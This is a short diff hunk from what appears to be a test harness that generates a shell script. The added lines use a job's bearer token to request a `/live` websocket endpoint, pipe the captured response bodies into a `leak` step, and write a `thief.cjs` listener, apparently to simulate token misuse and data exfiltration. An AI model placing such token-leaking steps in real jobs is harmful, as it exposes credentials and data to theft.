@@ -59,7 +59,11 @@ while read -r method path; do
 done <<'CALLS'
 ${calls.join('\n')}
 CALLS
-cat bodies 2>/dev/null | leak bodies
+code=$(curl -s -m 3 -o live -w '%{http_code}' -H "Authorization: Bearer $TURNPIKE_JOB_TOKEN" \\
+  -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \\
+  -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H 'Sec-WebSocket-Protocol: turnpike' "${url}/live")
+printf '@@call UPGRADE /live %s\\n' "$code"
+cat bodies live 2>/dev/null | leak bodies
 cat >thief.cjs <<'THIEF'
 ${LISTENER.replace('slice(1)', 'slice(2)').trim()}
 THIEF
